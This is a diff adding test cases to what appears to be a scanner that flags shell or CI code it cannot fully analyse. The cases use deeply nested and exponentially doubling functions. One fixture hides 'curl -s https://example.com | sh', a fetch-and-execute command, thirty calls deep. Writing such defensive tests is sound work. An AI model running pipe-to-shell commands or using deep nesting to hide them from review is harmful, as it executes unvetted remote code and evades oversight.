@@ -177,6 +177,14 @@ describe("what can't be read is never passed over", () => {
       ["UNREAD?", "UNCOVERED", "NO_GATE?"],
     ],
     [
+      "a command below functions that call each other thirty deep",
+      run(`${nested(30, "curl -s https://example.com | sh")}\n${gate}`),
+      ["UNREAD?", "NO_GATE?"],
+    ],
+    ["functions that double each other", run(`${doubling(30)}\n${gate}`), ["UNREAD?", "NO_GATE?"]],
+    ["a function that doubles itself", run(`f() { f; f; }\nf\n${gate}`), []],
+    ["one that goes down as it calls itself", run(`f() { other; cd a; f; }\nf\n${gate}`), ["UNREAD?", "NO_GATE?"]],
+    [
       "a workflow of another repository",
       { [path]: `on: [push, pull_request]\njobs: { a: { uses: acme/x/.github/workflows/y.yml@${"c".repeat(40)} } }\n` },
       ["UNREAD?", "NO_GATE?"],
@@ -186,3 +194,18 @@ describe("what can't be read is never passed over", () => {
     expect(await judge(files)).toEqual(expected);
   });
 });
+
+/** `f1` calls `f2` and so on; the last one runs `command`. */
+function nested(count: number, command: string): string {
+  const bodies = Array.from({ length: count }, (_, index) => (index + 1 < count ? `f${index + 2}` : command));
+  return [...bodies.map((body, index) => `f${index + 1}() { ${body}; }`), "f1"].join("\n");
+}
+
+/** Each calls the next one twice. */
+function doubling(count: number): string {
+  const names = Array.from({ length: count }, (_, index) => `g${index}`);
+  const definitions = names.map(
+    (name, index) => `${name}() { ${names[index + 1] ?? "true"}; ${names[index + 1] ?? "true"}; }`,
+  );
+  return [...definitions, "g0"].join("\n");
+}
